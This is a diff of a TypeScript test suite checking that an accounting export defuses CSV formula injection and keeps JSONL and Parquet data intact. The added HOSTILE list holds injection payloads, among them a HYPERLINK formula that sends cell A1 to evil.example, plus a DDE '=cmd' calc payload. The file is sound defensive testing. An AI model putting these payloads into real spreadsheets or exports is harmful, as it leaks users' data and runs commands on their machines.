@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { gunzipSync } from 'node:zlib';
+import { DuckDBInstance } from '@duckdb/node-api';
 import { parquetMetadata, parquetReadObjects, type FileMetaData } from 'hyparquet';
 import { DirObjectStore } from '../../../src/adapters/local/dir-object-store';
 import type { JsonText } from '../../../src/core/accounting-api';
@@ -38,6 +39,24 @@ async function write<I extends { raw: unknown; json?: JsonText }>(
   const object = await writer.finish();
   return { object, bytes: Buffer.from((await store.get(key))!) };
 }
+
+/** Descriptions that would run as formulas in a spreadsheet reading the CSV on `,` or on `;`. */
+const HOSTILE = [
+  'Rent;=HYPERLINK("http://evil","x")',
+  'Rent,=HYPERLINK("http://evil","x")',
+  'a; +SUM(A1)',
+  'x;"=1+1"',
+  '@cmd',
+  'net, -12 ; @x',
+  'Plain; and, calm',
+  'Invoice 42\n=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  'Invoice 43\r\n @SUM(A1)',
+  'Two\rlines;\n"+1',
+  'Paragraph\r\n\r\nand more',
+  ' =1+1',
+  '  @SUM(A1)',
+  '\t-2',
+];
 
 describe('export formats', () => {
   let root: string;
@@ -99,6 +118,19 @@ describe('export formats', () => {
       expect(csvCell('text', '\tcmd')).toBe(`"'\tcmd"`);
       expect(csvCell('text', '\rcmd')).toBe(`"'\rcmd"`);
       expect(csvCell('text', 'plain = fine')).toBe('plain = fine');
+      // After leading whitespace (spreadsheets skip it), and after a line break: a `;` reader does
+      // not see the quotes, so the line break starts a row there whose first cell is the formula.
+      expect(csvCell('text', ' =1+1')).toBe(`" '=1+1"`);
+      expect(csvCell('text', '  @SUM(A1)')).toBe(`"  '@SUM(A1)"`);
+      expect(csvCell('text', '\t=1')).toBe(`"'\t=1"`);
+      expect(csvCell('text', 'Invoice 42\n=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
+        `"Invoice 42\n'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
+      );
+      expect(csvCell('text', 'a\r\n  "+1')).toBe(`"a\r\n  ""'+1"`);
+      expect(csvCell('text', 'a\r-1')).toBe(`"a\r'-1"`);
+      // Ordinary multi-line text keeps its bytes: a blank line or an indented one is no formula.
+      expect(csvCell('text', 'line 1\r\n\r\n\tline 3')).toBe(`"line 1\r\n\r\n\tline 3"`);
+      expect(csvCell('text', ' leading space')).toBe(' leading space');
       expect(csvCell('decimal', -4999n)).toBe('-49.99');
       expect(csvCell('decimal', -5n)).toBe('-0.05');
       expect(csvCell('integer', -4999n)).toBe('-4999');
@@ -111,6 +143,20 @@ describe('export formats', () => {
       expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
       const jsonl = gunzipSync((await write(store, 'jsonl', transactionsTable, [item])).bytes).toString('utf8');
       expect(JSON.parse(jsonl.trim()).description).toBe('=cmd|" /C calc"!A0');
+    });
+
+    it('defuses only the CSV: JSONL and Parquet keep every hostile description as sent', async () => {
+      const items = HOSTILE.map((description, i) => transaction(i, { description }));
+      const jsonl = gunzipSync((await write(store, 'jsonl', transactionsTable, items)).bytes).toString('utf8');
+      expect(
+        jsonl
+          .trim()
+          .split('\n')
+          .map((line) => JSON.parse(line).description),
+      ).toEqual(HOSTILE);
+      const file = new Uint8Array((await write(store, 'parquet', transactionsTable, items, 'out/h.parquet')).bytes).buffer;
+      const rows = await parquetReadObjects({ file, columns: ['description'], compressors: PARQUET_DECOMPRESSORS });
+      expect(rows.map((r) => r.description)).toEqual(HOSTILE);
     });
     it('prints each amount with its currency’s fraction digits (Intl): JPY 0, EUR 2, KWD 3', async () => {
       const items = [
@@ -129,28 +175,48 @@ describe('export formats', () => {
     it.each([',', ';'])(
       'no cell starts a formula when a spreadsheet splits the file on %j, and "," readers get every description back',
       async (separator) => {
-        const hostile = [
-          'Rent;=HYPERLINK("http://evil","x")',
-          'Rent,=HYPERLINK("http://evil","x")',
-          'a; +SUM(A1)',
-          'x;"=1+1"',
-          '@cmd',
-          'net, -12 ; @x',
-          'Plain; and, calm',
-        ];
-        const items = hostile.map((description, i) => transaction(i, { description, amount: i % 2 === 0 ? -4999 : 1250 }));
+        const items = HOSTILE.map((description, i) => transaction(i, { description, amount: i % 2 === 0 ? -4999 : 1250 }));
         const text = (await write(store, 'csv', transactionsTable, items)).bytes.toString('utf8').slice(1);
         const rows = parseSpreadsheetCsv(text, separator);
-        expect(rows).toHaveLength(items.length + 1);
-        const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
-        expect(formulas).toEqual([]);
+        expect(formulaCells(rows)).toEqual([]);
         if (separator === ',') {
+          expect(rows).toHaveLength(items.length + 1);
           const column = rows[0]!.indexOf('description');
           // Defused: an apostrophe before each formula start, nothing else changed.
-          expect(rows.slice(1).map((r) => r[column]!.replace(/(^|[,;][\s"]*)'(?=[=+\-@\t\r])/g, '$1'))).toEqual(hostile);
+          expect(rows.slice(1).map((r) => r[column]!.replace(/((?:^|[,;\r\n])[\s"]*)'(?=[=+\-@\t\r])/g, '$1'))).toEqual(HOSTILE);
+        } else {
+          // The line breaks of the descriptions start rows of their own there.
+          expect(rows.length).toBeGreaterThan(items.length + 1);
         }
       },
     );
+
+    it('DuckDB, splitting the file on ";" as a German Excel does, finds no cell that starts a formula', async () => {
+      const items = HOSTILE.map((description, i) => transaction(i, { description }));
+      await write(store, 'csv', transactionsTable, items);
+      const db = await (await DuckDBInstance.create(':memory:')).connect();
+      try {
+        const file = join(root, 'out/data.csv');
+        // No sniffing, quotes honoured only at the start of a field, rows of any width: a
+        // spreadsheet's reading, not an RFC 4180 one.
+        const wide = Array.from({ length: 40 }, (_, i) => `'c${i}': 'VARCHAR'`).join(', ');
+        const semicolon = (
+          await db.runAndReadAll(
+            `SELECT * FROM read_csv('${file}', delim = ';', quote = '"', escape = '"', header = false, auto_detect = false, strict_mode = false, null_padding = true, columns = {${wide}})`,
+          )
+        ).getRows() as (string | null)[][];
+        expect(semicolon.length).toBeGreaterThan(items.length + 1);
+        expect(formulaCells(semicolon.map((r) => r.filter((c): c is string => c !== null)))).toEqual([]);
+        const comma = (
+          await db.runAndReadAll(
+            `SELECT description FROM read_csv('${file}', delim = ',', quote = '"', escape = '"', header = true, all_varchar = true)`,
+          )
+        ).getRows() as string[][];
+        expect(comma.map(([d]) => d!.replace(/((?:^|[,;\r\n])[\s"]*)'(?=[=+\-@\t\r])/g, '$1'))).toEqual(HOSTILE);
+      } finally {
+        db.closeSync();
+      }
+    });
   });
 
   describe('raw JSONL.gz', () => {
@@ -353,6 +419,7 @@ describe('export formats', () => {
  * when it starts with a quote (RFC 4180 inside); elsewhere quotes are plain characters.
  */
 function parseSpreadsheetCsv(text: string, separator: string): string[][] {
+  const ends = (c: string) => c === separator || c === '\r' || c === '\n';
   const rows: string[][] = [];
   let row: string[] = [];
   let i = 0;
@@ -374,18 +441,27 @@ function parseSpreadsheetCsv(text: string, separator: string): string[][] {
         cell += text[i++];
       }
       // Anything between the closing quote and the next separator is appended as is.
-      while (i < text.length && text[i] !== separator && text[i] !== '\r') cell += text[i++];
+      while (i < text.length && !ends(text[i]!)) cell += text[i++];
     } else {
-      while (i < text.length && text[i] !== separator && text[i] !== '\r') cell += text[i++];
+      while (i < text.length && !ends(text[i]!)) cell += text[i++];
     }
     row.push(cell);
     if (text[i] === separator) {
       i++;
     } else {
-      i += 2; // CRLF
+      // CRLF, or a lone CR or LF: each ends a row outside a quoted field.
+      i += text[i] === '\r' && text[i + 1] === '\n' ? 2 : 1;
       rows.push(row);
       row = [];
     }
   }
   return rows;
+}
+
+/**
+ * The cells a spreadsheet would run: a formula character first, after whitespace and quotes it
+ * skips (or a tab or CR first, OWASP's other two); numbers such as `-49.99` are numbers.
+ */
+function formulaCells(rows: readonly (readonly string[])[]): string[] {
+  return rows.flat().filter((cell) => (/^[\s"]*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell)) && !/^-?\d+(\.\d+)?$/.test(cell));
 }
